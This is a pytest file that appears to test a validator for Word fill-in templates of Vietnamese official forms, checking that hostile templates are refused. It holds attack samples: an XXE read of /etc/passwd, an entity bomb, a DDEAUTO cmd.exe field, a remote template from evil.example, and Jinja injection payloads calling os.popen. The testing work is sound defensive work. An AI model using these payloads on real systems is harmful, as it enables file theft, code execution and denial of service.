"""Templates that want more than an official paper needs: each is refused for its own reason."""

from hashlib import sha256

import pytest

from documents.own_templates.child_time import MOST_SECONDS, child_seconds
from documents.own_templates.raw_zip import raw_zip
from documents.own_templates.word_files import (
    DICTIONARY,
    content_types,
    entries,
    field,
    header,
    paragraph,
    parts,
    relations,
    runs,
    table,
    word_file,
)
from ketnap.documents.own_templates.inspecting import inspect_template
from ketnap.documents.own_templates.isolation.troubles import Code

DUNDER = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
DOCTYPE = b"<!DOCTYPE w [%s]>"


def with_doctype(declarations: bytes, use: str) -> bytes:
    made = parts(paragraph(use).replace("&amp;", "&"))
    made["word/document.xml"] = DOCTYPE % declarations + made["word/document.xml"]
    return raw_zip(entries(made))


def entity_bomb() -> bytes:
    levels = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (n, (b"&a%d;" % (n - 1)) * 10) for n in range(1, 20)
    )
    return with_doctype(levels, "&a19;")


def related(kind: str, target: str, *, outside: bool = False, **more: bytes) -> bytes:
    rels = relations((kind, target), outside=outside)
    return word_file(paragraph("Chữ"), more={"word/_rels/document.xml.rels": rels, **more})


def with_part(name: str, content: bytes) -> bytes:
    return word_file(paragraph("Chữ"), more={name: content})


def core_properties(title: str) -> bytes:
    return (
        f'<p xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{title}</dc:title></p>'.encode()
    )


def in_body(text: str) -> bytes:
    return word_file(paragraph(text))


def huge_output() -> bytes:
    """Small itself, above twenty megabytes once a loop has repeated it."""
    lots = "".join(paragraph(sha256(b"%d" % number).hexdigest()) for number in range(60_000))
    return word_file(paragraph("{%p for row in family %}"), lots, paragraph("{%p endfor %}"))


FILES = {
    "D01": (
        lambda: with_doctype(b'<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
        {Code.XML_DTD},
    ),
    "D02": (entity_bomb, {Code.XML_DTD}),
    "D02 in another encoding": (
        lambda: word_file(
            more={
                "word/document.xml": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")
            }
        ),
        {Code.XML_ENCODING},
    ),
    "D02 in an encoding that hides it": (
        lambda: word_file(
            more={"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}
        ),
        {Code.XML_ENCODING},
    ),
    "D03": (lambda: with_part("word/vbaProject.bin", b"macro"), {Code.MACRO}),
    "D04": (
        lambda: word_file(
            paragraph("Chữ"),
            more={
                "[Content_Types].xml": content_types(
                    "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            },
        ),
        {Code.MACRO},
    ),
    "D05": (
        lambda: word_file(
            paragraph("Chữ"),
            more={
                "word/_rels/settings.xml.rels": relations(
                    ("attachedTemplate", "http://evil.example/a.dotm"), outside=True
                )
            },
        ),
        {Code.EXTERNAL},
    ),
    "D05 named in the settings": (
        lambda: with_part(
            "word/settings.xml", header("<w:attachedTemplate r:id='rId1'/>", tag="settings")
        ),
        {Code.EXTERNAL},
    ),
    "D06": (lambda: with_part("word/embeddings/oleObject1.bin", b"x"), {Code.EMBEDDED}),
    "D06 as an element": (
        lambda: word_file("<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>"),
        {Code.EMBEDDED},
    ),
    "D06 as a relation": (lambda: related("oleObject", "x.bin"), {Code.EMBEDDED}),
    "D07": (lambda: word_file(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), {Code.FIELD}),
    "D07 in the strict namespace": (
        lambda: word_file(
            '<w:p><s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"'
            ' s:instr="INCLUDETEXT x"/></w:p>'
        ),
        {Code.STRICT, Code.FIELD},
    ),
    "D07 by an attribute of the strict namespace": (
        lambda: word_file(
            '<w:p xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main" s:instr="DDE x"/>'
        ),
        {Code.STRICT},
    ),
    "D07 in a foreign namespace": (
        lambda: word_file('<w:p><x:instrText xmlns:x="urn:x">DDE x</x:instrText></w:p>'),
        {Code.FIELD},
    ),
    "a field taken out but still there": (
        lambda: word_file("<w:p><w:r><w:delInstrText>DDE x</w:delInstrText></w:r></w:p>"),
        {Code.TRACKED_CHANGES},
    ),
    "a blank that is hidden": (
        lambda: word_file(
            "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{{ vote_agree }}</w:t></w:r></w:p>"
        ),
        {Code.HIDDEN_TEXT},
    ),
    "a blank hidden by a style built on one that hides": (
        lambda: word_file(
            "<w:p><w:pPr><w:pStyle w:val='Quiet'/></w:pPr><w:r><w:t>{{ note }}</w:t></w:r></w:p>",
            more={
                "word/styles.xml": header(
                    "<w:style w:styleId='Gone'><w:rPr><w:vanish/></w:rPr></w:style>"
                    "<w:style w:styleId='Quiet'><w:basedOn w:val='Gone'/></w:style>",
                    tag="styles",
                )
            },
        ),
        {Code.HIDDEN_TEXT},
    ),
    "D07 in pieces": (
        lambda: word_file(
            "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
            "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>"
            "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
        ),
        {Code.FIELD},
    ),
    "D07 behind a page number": (lambda: word_file(field("PAGE DDE x")), {Code.FIELD}),
    "D07 inside another field": (
        lambda: word_file(
            "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
            "<w:r><w:instrText>PAGE</w:instrText></w:r>"
            "<w:r><w:fldChar w:fldCharType='separate'/></w:r>"
            f"{field('INCLUDETEXT x')[5:-6]}"
            "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
        ),
        {Code.FIELD},
    ),
    "a simple field": (
        lambda: word_file("<w:p><w:fldSimple w:instr=' HYPERLINK x '/></w:p>"),
        {Code.FIELD},
    ),
    "D08": (lambda: word_file("<w:altChunk r:id='rId1'/>"), {Code.ALT_CHUNK}),
    "D08 as a relation": (lambda: related("aFChunk", "chunk.html"), {Code.ALT_CHUNK}),
    "D09": (
        lambda: related("image", "http://evil.example/a.png", outside=True),
        {Code.EXTERNAL},
    ),
    "a link": (
        lambda: related("hyperlink", "mailto:vanphong@example.vn", outside=True),
        {Code.EXTERNAL},
    ),
    "a frame": (lambda: related("frame", "x.html"), {Code.RELATION_NOT_ALLOWED}),
    "a subdocument": (lambda: word_file("<w:subDoc r:id='rId1'/>"), {Code.EXTERNAL}),
    "text taken from elsewhere": (
        lambda: word_file(
            "<w:sdt><w:sdtPr><w:dataBinding w:xpath='/a'/></w:sdtPr>"
            f"<w:sdtContent>{paragraph('Chữ')}</w:sdtContent></w:sdt>"
        ),
        {Code.DATA_BINDING},
    ),
    "a tracked change": (
        lambda: word_file(f"<w:p><w:ins w:id='1'>{runs('thêm')}</w:ins></w:p>"),
        {Code.TRACKED_CHANGES},
    ),
    "comments": (lambda: with_part("word/comments.xml", b"<a/>"), {Code.COMMENTS}),
    "an unknown part": (lambda: with_part("word/afchunk.mht", b"x"), {Code.PART_NOT_ALLOWED}),
    "an embedded font": (
        lambda: with_part("word/fonts/font1.odttf", b"x"),
        {Code.PART_NOT_ALLOWED},
    ),
    "no Word file inside": (
        lambda: word_file(more={"[Content_Types].xml": content_types("application/vnd.ms-excel")}),
        {Code.NOT_A_DOCX},
    ),
    "broken markup": (lambda: word_file("<w:p>"), {Code.XML_BROKEN}),
    "deep markup": (lambda: word_file("<w:p>" * 5000 + "</w:p>" * 5000), {Code.XML_BROKEN}),
    "D10": (lambda: in_body(DUNDER), {Code.TAG_TOO_MUCH}),
    "D11": (lambda: with_part("word/header1.xml", header(paragraph(DUNDER))), {Code.TAG_TOO_MUCH}),
    "D11 in a footer": (
        lambda: with_part("word/footer1.xml", header(paragraph(DUNDER), tag="ftr")),
        {Code.TAG_TOO_MUCH},
    ),
    "D11 in the footnotes": (
        lambda: with_part("word/footnotes.xml", header(paragraph(DUNDER), tag="footnotes")),
        {Code.TAG_TOO_MUCH},
    ),
    "D12": (
        lambda: with_part("docProps/core.xml", core_properties(DUNDER)),
        {Code.BRACES_ELSEWHERE},
    ),
    "D12 with curly quotes": (
        lambda: with_part("docProps/core.xml", core_properties("{{ ‘’.__class__ }}")),
        {Code.BRACES_ELSEWHERE},
    ),
    "D13": (lambda: in_body("{{ person_full_name or }}"), {Code.TAG_SYNTAX}),
    "D14": (lambda: in_body("{{ person_id_number }}"), {Code.UNKNOWN_BLANK}),
    "D15": (
        lambda: word_file(
            paragraph("{%p for row in family %}"),
            paragraph("{%p for other in votes %}"),
            paragraph("{{ row.name }}"),
            paragraph("{%p endfor %}"),
            paragraph("{%p endfor %}"),
        ),
        {Code.NESTED_LOOP},
    ),
    "D16": (huge_output, {Code.OUTPUT_TOO_LARGE}),
}

BODIES = {
    "a name that asks for its class": ("{{ ''.__class__ }}", {Code.TAG_TOO_MUCH}),
    "in curly quotes": ("{{ ‘’.__class__ }}", {Code.TAG_TOO_MUCH}),
    "of a blank": ("{{ person_full_name.__class__ }}", {Code.UNKNOWN_BLANK}),
    "by a key": ("{{ person_full_name['__class__'] }}", {Code.TAG_TOO_MUCH}),
    "by a filter": ("{{ person_full_name|attr('__class__') }}", {Code.UNKNOWN_FILTER}),
    "a call": ("{{ person_full_name.upper() }}", {Code.TAG_TOO_MUCH}),
    "a global": ("{{ cycler }}", {Code.UNKNOWN_BLANK}),
    "lipsum": ("{{ lipsum.__globals__['os'].popen('id').read() }}", {Code.TAG_TOO_MUCH}),
    "the context itself": ("{{ self }}", {Code.UNKNOWN_BLANK}),
    "a loop of a billion": (
        "{% for x in range(1000000000) %}x{% endfor %}",
        {Code.STATEMENT_NOT_ALLOWED},
    ),
    "a power": ("{{ 9**9**9**9 }}", {Code.TAG_TOO_MUCH}),
    "a long text": ("{{ 'a' * 1000000000 }}", {Code.TAG_TOO_MUCH}),
    "formatting": ("{{ '%1000000000d' % 1 }}", {Code.TAG_TOO_MUCH}),
    "a sum": ("{{ 1 + 1 }}", {Code.TAG_TOO_MUCH}),
    "a sign": ("{{ (-1) }}", {Code.TAG_TOO_MUCH}),
    "joined texts": ("{{ 'a' ~ 'b' }}", {Code.TAG_TOO_MUCH}),
    "a list": ("{{ [1, 2] }}", {Code.TAG_TOO_MUCH}),
    "a test": ("{% if note is defined %}x{% endif %}", {Code.TAG_TOO_MUCH}),
    "a power in a condition": ("{% if 9**9**9 %}x{% endif %}", {Code.TAG_TOO_MUCH}),
    "looking into a text": ("{% if 'b' in note %}x{% endif %}", {Code.TAG_TOO_MUCH}),
    "an ordering": ("{% if note < 'b' %}x{% endif %}", {Code.TAG_TOO_MUCH}),
    "an argument that is calculated": ("{{ note|default(9**9**9) }}", {Code.TAG_TOO_MUCH}),
    "a named argument": ("{{ note|default(boolean=true) }}", {Code.TAG_TOO_MUCH}),
    "markup in a text": ("{{ '<w:p/>' }}", {Code.TAG_TOO_MUCH}),
    "setting": ("{% set x = 1 %}", {Code.STATEMENT_NOT_ALLOWED}),
    "including": ("{% include 'x' %}", {Code.STATEMENT_NOT_ALLOWED}),
    "importing": ("{% import 'os' as os %}", {Code.STATEMENT_NOT_ALLOWED}),
    "a macro": ("{% macro m() %}{% endmacro %}", {Code.STATEMENT_NOT_ALLOWED}),
    "raw text": ("{% raw %}{{ x }}{% endraw %}", {Code.STATEMENT_NOT_ALLOWED, Code.UNKNOWN_BLANK}),
    "no escaping": (
        "{% autoescape false %}{% endautoescape %}",
        {Code.STATEMENT_NOT_ALLOWED},
    ),
    "safe": ("{{ note|safe }}", {Code.UNKNOWN_FILTER}),
    "a comment": ("{# lời nhắn #}", {Code.TAG_KIND}),
    "rich text": ("{{r note }}", {Code.TAG_SYNTAX}),
    "another document": ("{{p note }}", {Code.TAG_KIND}),
    "merging with neighbours": ("{%- if note %}x{%- endif %}", {Code.TAG_KIND}),
    "a coloured cell": ("{% cellbg note %}", {Code.STATEMENT_NOT_ALLOWED}),
    "a blank of 10,000 letters": ("{{ " + "a" * 10_000 + " }}", {Code.TAG_TOO_LONG}),
    "a tower of brackets": ("{{ " + "(" * 140 + "note" + ")" * 140 + " }}", {Code.TAG_TOO_MUCH}),
    "60 KB of half a tag": ("{% " * 20_000, {Code.TAG_UNFINISHED}),
    "an open tag": ("{{ note", {Code.TAG_UNFINISHED}),
    "a closing tag": ("note }}", {Code.TAG_UNFINISHED}),
    "one brace": ("Họ tên {", {Code.TAG_UNFINISHED}),
    "an empty tag": ("{{ }}", {Code.TAG_KIND}),
    "text turned around": ("Bí thư \u202eabc", {Code.HIDDEN_CHARACTERS}),
    "an unknown list": ("{% for x in people %}{{ x.name }}{% endfor %}", {Code.UNKNOWN_LIST}),
    "a text as a list": ("{% for x in note %}{{ x.name }}{% endfor %}", {Code.UNKNOWN_LIST}),
    "a list as a text": ("{{ family }}", {Code.LIST_AS_TEXT}),
    "a list as a text, by a filter": ("{{ family|upper }}", {Code.LIST_AS_TEXT}),
    "an unknown column": (
        "{% for row in family %}{{ row.salary }}{% endfor %}",
        {Code.UNKNOWN_COLUMN},
    ),
    "the methods of a row": (
        "{% for row in family %}{{ row.items }}{% endfor %}",
        {Code.UNKNOWN_COLUMN},
    ),
    "deeper into a row": (
        "{% for row in family %}{{ row.name.x }}{% endfor %}",
        {Code.TAG_TOO_MUCH},
    ),
    "more of a loop": (
        "{% for row in family %}{{ loop.changed }}{% endfor %}",
        {Code.UNKNOWN_COLUMN},
    ),
    "a row outside its loop": ("{{ row.name }}", {Code.UNKNOWN_BLANK}),
    "a loop outside a loop": ("{{ loop.index }}", {Code.UNKNOWN_BLANK}),
    "a row that hides a blank": (
        "{% for note in family %}{{ note.name }}{% endfor %}",
        {Code.STATEMENT_NOT_ALLOWED},
    ),
    "a loop with a condition of its own": (
        "{% for row in family if row.name %}x{% endfor %}",
        {Code.STATEMENT_NOT_ALLOWED},
    ),
    "an open condition": ("{% if note %}x", {Code.UNBALANCED}),
    "a lonely end": ("x{% endif %}", {Code.UNBALANCED}),
    "an end of another kind": ("{% if note %}x{% endfor %}", {Code.UNBALANCED}),
    "an else of a loop": (
        "{% for row in family %}x{% else %}y{% endfor %}",
        {Code.UNBALANCED},
    ),
    "many loops": (
        "{% for row in family %}{% endfor %}" * 41,
        {Code.TOO_MANY_LOOPS},
    ),
    "deep conditions": (
        "{% if note %}" * 40 + "{% endif %}" * 40,
        {Code.TAG_TOO_MUCH, Code.UNBALANCED},
    ),
    "a text beside a paragraph's condition": (
        "Mất: {%p if note %}",
        {Code.TEXT_WOULD_BE_LOST},
    ),
}

PAGES = {
    "a condition across paragraphs": (
        (paragraph("{% if note %}a"), paragraph("b{% endif %}")),
        {Code.UNBALANCED},
    ),
    "a condition of two kinds": (
        (paragraph("{%p if note %}"), paragraph("b{% endif %}")),
        {Code.UNBALANCED},
    ),
    "a condition that leaves a link": (
        (f"<w:p>{runs('{% if note %}a')}<w:hyperlink>{runs('b{% endif %}')}</w:hyperlink></w:p>",),
        {Code.UNBALANCED},
    ),
    "a loop from one table to the next": (
        (table(("{%tr for row in family %}",)), table(("{%tr endfor %}",))),
        {Code.UNBALANCED},
    ),
    "a tag that begins in one paragraph and ends in another": (
        (paragraph("{{ person_"), paragraph("full_name }}")),
        {Code.TAG_UNFINISHED},
    ),
    "braces that meet across paragraphs": (
        (paragraph("{"), paragraph("{ ''.__class__ }}")),
        {Code.TAG_UNFINISHED},
    ),
    "text in a row that a loop takes": (
        (table(("{%tr for row in family %}", "Họ tên")), table(("{%tr endfor %}",))),
        {Code.TEXT_WOULD_BE_LOST, Code.UNBALANCED},
    ),
    "a row's loop outside tables": (
        (paragraph("{%tr for row in family %}"), paragraph("{%tr endfor %}")),
        {Code.TEXT_WOULD_BE_LOST},
    ),
    "a section's end in a paragraph that goes": (
        (
            f"<w:p><w:pPr><w:sectPr/></w:pPr>{runs('{%p if note %}')}</w:p>",
            paragraph("{%p endif %}"),
        ),
        {Code.TEXT_WOULD_BE_LOST, Code.UNBALANCED},
    ),
    "braces in an attribute": (
        ("<w:p><w:bookmarkStart w:name='{{ note }}'/></w:p>",),
        {Code.BRACES_ELSEWHERE},
    ),
    "braces in deleted text": (
        ("<w:p><w:r><w:delText>{{ note }}</w:delText></w:r></w:p>",),
        {Code.BRACES_ELSEWHERE},
    ),
    "a dunder split by the spell checker": (
        (paragraph("{", "{ ''.__cl", "ass", "__ }", "}"),),
        {Code.TAG_TOO_MUCH},
    ),
}


@pytest.mark.parametrize(("make", "reasons"), FILES.values(), ids=FILES)
def test_file_is_refused_for_its_reason_in_little_time(make, reasons):
    hostile = make()

    assert reasons_against(hostile) == reasons


@pytest.mark.parametrize(("text", "reasons"), BODIES.values(), ids=BODIES)
def test_text_is_refused_for_its_reason(text, reasons):
    assert reasons_against(in_body(text)) == reasons


@pytest.mark.parametrize(("blocks", "reasons"), PAGES.values(), ids=PAGES)
def test_page_is_refused_for_its_reason(blocks, reasons):
    assert reasons_against(word_file(*blocks)) == reasons


def test_every_problem_is_told_with_its_place_in_both_languages():
    hostile = word_file(
        paragraph("CHI BỘ VĂN PHÒNG"),
        paragraph("Họ và tên: {{ person_fullname }} sinh năm"),
        table(("Họ tên",), ("{{ mother }}",)),
        more={"word/header1.xml": header(paragraph("Số {{ number }}"))},
    )

    problems = inspect_template(hostile, DICTIONARY).problems

    assert [(each.place, each.vi) for each in problems] == [
        (
            "Phần thân, đoạn 2: “Họ và tên: {{ person_fullname }} sinh năm”",
            "Mẫu này không có chỗ điền “person_fullname”. Hãy chép tên từ mẫu chuẩn.",
        ),
        (
            "Phần thân, bảng 1, hàng 2: “{{ mother }}”",
            "Mẫu này không có chỗ điền “mother”. Hãy chép tên từ mẫu chuẩn.",
        ),
        (
            "Đầu trang, đoạn 1: “Số {{ number }}”",
            "Mẫu này không có chỗ điền “number”. Hãy chép tên từ mẫu chuẩn.",
        ),
    ]
    assert [each.place_en for each in problems] == [
        "Body, paragraph 2: “Họ và tên: {{ person_fullname }} sinh năm”",
        "Body, table 1, row 2: “{{ mother }}”",
        "Header, paragraph 1: “Số {{ number }}”",
    ]


def reasons_against(template: bytes) -> set[Code]:
    before = child_seconds()
    problems = inspect_template(template, DICTIONARY).problems
    assert child_seconds() - before < MOST_SECONDS
    assert all(problem.vi and problem.en and problem.place for problem in problems)
    return {problem.code for problem in problems}
